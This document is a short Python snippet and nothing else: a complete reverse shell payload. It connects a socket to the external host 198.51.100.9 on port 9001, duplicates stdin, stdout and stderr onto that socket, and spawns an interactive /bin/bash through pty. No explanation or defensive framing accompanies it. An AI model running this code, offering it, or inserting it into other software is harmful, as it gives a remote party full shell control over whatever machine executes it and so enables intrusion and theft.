import socket, os, pty
s = socket.socket(); s.connect(("198.51.100.9", 9001))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
pty.spawn("/bin/bash")
